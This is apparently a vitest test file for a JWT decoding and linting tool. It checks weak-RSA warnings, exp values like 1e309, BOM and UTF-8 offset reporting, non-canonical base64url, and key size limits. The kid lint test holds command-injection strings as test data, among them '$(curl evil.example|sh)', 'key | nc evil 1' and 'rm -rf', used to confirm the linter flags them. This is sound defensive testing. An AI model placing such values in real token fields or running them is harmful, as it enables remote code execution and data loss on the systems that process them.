// Verdicts that say no more than is true: a weak RSA key in the headline, a time claim too large to be a number
// shown as written, a key box holding only whitespace, a byte order mark or a bad UTF-8 byte named by its
// offset, a token that is not the canonical base64url of its bytes, and shell syntax in a kid. Tokens are made
// with node:crypto; jose (and PyJWT, as recorded in the notes) is the behaviour the messages describe.
import { createHmac, generateKeyPairSync, sign } from 'node:crypto';
import { jwtVerify } from 'jose';
import { describe, expect, it } from 'vitest';
import { checkTimeClaims, listClaims } from '../../src/core/claims';
import { stringifyAsWritten } from '../../src/core/json-as-written';
import { detectKey, MAX_KEY_TEXT_LENGTH } from '../../src/core/keys';
import { lintToken } from '../../src/core/lint';
import { TokenError } from '../../src/core/errors';
import { decodeToken } from '../../src/core/token';
import { verifyToken } from '../../src/core/verify';

const b64u = (data: string | Uint8Array) => Buffer.from(data).toString('base64url');
const SECRET = 'a-string-secret-at-least-256-bits-long';

function hs256(headerBytes: string | Uint8Array, payloadBytes: string | Uint8Array): string {
  const input = `${b64u(headerBytes)}.${b64u(payloadBytes)}`;
  return `${input}.${createHmac('sha256', SECRET).update(input).digest('base64url')}`;
}

const HEADER = '{"alg":"HS256","typ":"JWT"}';
const BOM = new Uint8Array([0xef, 0xbb, 0xbf]);
const withBom = (text: string) => Buffer.concat([BOM, Buffer.from(text)]);

describe('a weak RSA key is in the headline', () => {
  it('says "Verified, with a 512-bit key anyone can forge", not only "verified"', async () => {
    const weak = generateKeyPairSync('rsa', { modulusLength: 512 });
    const input = `${b64u('{"alg":"RS256"}')}.${b64u('{"sub":"weak"}')}`;
    const token = `${input}.${b64u(sign('sha256', Buffer.from(input), weak.privateKey))}`;
    const pem = weak.publicKey.export({ type: 'spki', format: 'pem' }) as string;
    const result = await verifyToken(token, { text: pem });
    expect(result).toMatchObject({ signature: 'verified', code: 'weak-rsa' });
    expect(result.headline).toBe('Verified, with a 512-bit key anyone can forge');
    expect(result.message).toMatch(/RSA 512, under the 2048 bits RFC 7518 §3\.3 requires/);
  });

  it('has no headline of its own for a 2048-bit key', async () => {
    const strong = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const input = `${b64u('{"alg":"RS256"}')}.${b64u('{"sub":"strong"}')}`;
    const token = `${input}.${b64u(sign('sha256', Buffer.from(input), strong.privateKey))}`;
    const result = await verifyToken(token, {
      text: strong.publicKey.export({ type: 'spki', format: 'pem' }) as string,
    });
    expect(result.signature).toBe('verified');
    expect(result.headline).toBeUndefined();
  });
});

describe('exp: 1e309 is shown as written', () => {
  const token = hs256(HEADER, '{"sub":"forever","exp":1e309,"nbf":-1e999}');

  it('is what jose accepts as never expiring (so the note is not a guess)', async () => {
    const { payload } = await jwtVerify(token, new TextEncoder().encode(SECRET));
    expect(payload.exp).toBe(Infinity);
  });

  it('says "1e309", not null, in the time verdict, with what jose and PyJWT do', () => {
    const { payload } = decodeToken(token);
    const verdict = checkTimeClaims(payload, { now: Date.UTC(2026, 0, 1) });
    expect(verdict.message).not.toMatch(/null/);
    expect(verdict.message).toContain('exp is 1e309 as written');
    expect(verdict.message).toContain('not a NumericDate');
    expect(verdict.message).toContain('jose accepts it as a token that never expires; PyJWT rejects the token');
    expect(verdict.message).toContain('nbf is -1e999 as written');
  });

  it('shows 1e309 in the claims table and in the pretty payload, so an edit keeps it', () => {
    const { payload } = decodeToken(token);
    const rows = listClaims(payload, Date.UTC(2026, 0, 1));
    const exp = rows.find((row) => row.name === 'exp');
    expect(exp).toMatchObject({ display: '1e309', badge: 'invalid' });
    expect(exp?.badgeReason).toContain('jose accepts it');
    expect(stringifyAsWritten(payload, 2)).toBe('{\n  "sub": "forever",\n  "exp": 1e309,\n  "nbf": -1e999\n}');
  });
});

describe('a key box holding only whitespace', () => {
  it('is described, not called empty', () => {
    expect(detectKey({ text: '' })).toEqual({ kind: 'empty' });
    expect(detectKey({ text: '   \n\t' })).toEqual({ kind: 'empty', blank: '3 spaces, 1 line break and 1 tab' });
    expect(detectKey({ text: ' \r\n' })).toEqual({ kind: 'empty', blank: '1 space and 1 line break' });
    expect(detectKey({ text: '\u00a0' })).toEqual({ kind: 'empty', blank: '1 × U+00A0 NO-BREAK SPACE' });
  });
});

describe('a byte order mark or a bad UTF-8 byte is named by its offset', () => {
  it('decodes a header and a payload with a BOM as jose does, and says where the BOM is', async () => {
    const token = hs256(withBom(HEADER), withBom('{"sub":"bom"}'));
    const decoded = decodeToken(token);
    expect(decoded.payload).toEqual({ sub: 'bom' });
    expect(decoded.header.alg).toBe('HS256');
    const boms = decoded.warnings.filter((w) => w.code === 'bom');
    expect(boms.map((w) => w.part)).toEqual(['header', 'payload']);
    expect(boms[1]?.message).toContain('bytes 0–2 of the decoded payload: EF BB BF');
    expect(boms[1]?.offset).toBe(token.indexOf('.') + 1);
    expect((await jwtVerify(token, new TextEncoder().encode(SECRET))).payload.sub).toBe('bom');
  });

  it('names the offset and the value of the first byte that is not UTF-8', () => {
    const payload = Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}')]);
    const warning = decodeToken(hs256(HEADER, payload)).warnings.find((w) => w.code === 'payload-not-utf8');
    expect(warning?.message).toContain(
      'byte 6 of the decoded payload (0xC3) starts a 2-byte sequence that is cut short at byte 7',
    );
    const header = Buffer.concat([Buffer.from('{"alg":"'), Buffer.from([0xff]), Buffer.from('"}')]);
    try {
      decodeToken(hs256(header, '{}'));
      expect.unreachable();
    } catch (error) {
      expect(error).toBeInstanceOf(TokenError);
      expect((error as TokenError).message).toContain('byte 8 of the decoded header (0xFF) never occurs in UTF-8');
    }
  });
});

describe('a token that is not the canonical base64url of its bytes', () => {
  it('gets a note, although it decodes and verifies like the canonical one', async () => {
    const canonical = hs256(HEADER, '{"sub":"c"}');
    // 32 bytes of HMAC are 43 characters: the last one carries 2 spare bits, which decoders drop.
    const last = canonical.at(-1) ?? 'A';
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const twin = canonical.slice(0, -1) + alphabet.charAt(alphabet.indexOf(last) | 1);
    expect(twin).not.toBe(canonical);
    expect((await verifyToken(twin, { text: SECRET })).signature).toBe('verified');
    await expect(jwtVerify(twin, new TextEncoder().encode(SECRET))).resolves.toBeDefined();
    const note = decodeToken(twin).warnings.find((w) => w.code === 'base64url-non-canonical');
    expect(note).toMatchObject({ part: 'signature', offset: twin.length - 1 });
    expect(note?.message).toContain(`exactly like the one ending in "${last}"`);
    expect(decodeToken(canonical).warnings.map((w) => w.code)).not.toContain('base64url-non-canonical');
  });
});

describe('the kid lint sees shell syntax', () => {
  const findings = (kid: string) =>
    lintToken(decodeToken(hs256(JSON.stringify({ alg: 'HS256', kid }), '{"exp":1}'))).map((f) => f.id);

  it('flags $(…), backticks, ${…}, pipes and separators', () => {
    for (const kid of ['$(curl evil.example|sh)', '`id`', '${IFS}', 'key | nc evil 1', 'a && b', 'k\nrm -rf']) {
      expect(findings(kid), kid).toContain('kid-command-injection');
    }
  });

  it('leaves an ordinary kid alone', () => {
    for (const kid of ['2024-06-key', 'rsa.sig.1', 'a_b-c'])
      expect(findings(kid), kid).not.toContain('kid-command-injection');
  });
});

describe('hostile key text', () => {
  it('refuses key text over the stated limit before parsing it, and says the limit', () => {
    const text = `{"keys":[${' '.repeat(MAX_KEY_TEXT_LENGTH)}]}`;
    const detection = detectKey({ text });
    expect(detection).toMatchObject({ kind: 'error', code: 'too-large' });
    expect(detection.kind === 'error' && detection.message).toContain('the limit is 4,194,304 (4 MiB)');
  });
});
